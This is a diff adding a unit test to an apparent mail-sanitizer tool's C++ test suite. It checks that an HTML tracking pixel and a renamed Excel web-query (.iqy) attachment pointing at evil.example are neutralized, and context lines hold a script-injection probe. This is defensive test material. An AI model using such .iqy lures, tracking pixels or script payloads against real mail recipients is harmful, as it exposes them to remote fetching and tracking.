@@ -106,6 +106,21 @@ TEST_F(MailCli, Iso2022JpPlainTextPassesUnchanged) {
   EXPECT_TRUE(o.item["quarantine_id"].is_null());
 }
 
+TEST_F(MailCli, OnlyAPlainTextMessageGoesOnUnchanged) {
+  // HTML that libmagic takes for plain text, and a text attachment with a risky name: both
+  // clean as content, but the message is rebuilt, so neither arrives as the sender labelled it.
+  std::string msg = std::string(kHead) +
+                    "Content-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: text/html\n\n"
+                    "<img src=\"http://tracker.example/x.gif\">hello\n--B\nContent-Type: text/plain\n"
+                    "Content-Disposition: attachment; filename=\"query.iqy\"\n\nWEB\n1\nhttp://evil.example/\n--B--\n";
+  Out o = Run(msg);
+  ASSERT_EQ(o.exit_code, 0) << o.err;
+  EXPECT_EQ(o.item["verdict"], "sanitized");
+  EXPECT_EQ(Part(o, "query.iqy"), nullptr);
+  EXPECT_NE(Part(o, "query.iqy.txt"), nullptr);
+  EXPECT_EQ(o.message.find("text/html"), std::string::npos);
+}
+
 TEST_F(MailCli, ShiftJisHtmlOnlyBecomesUtf8Text) {
   std::string html = "<html><head><meta charset=\"Shift_JIS\"></head><body><p>\x97\x5c\x8e\x5a\x97\x76\x8b\x81"
                      "<script>alert(1)</script></p></body></html>";
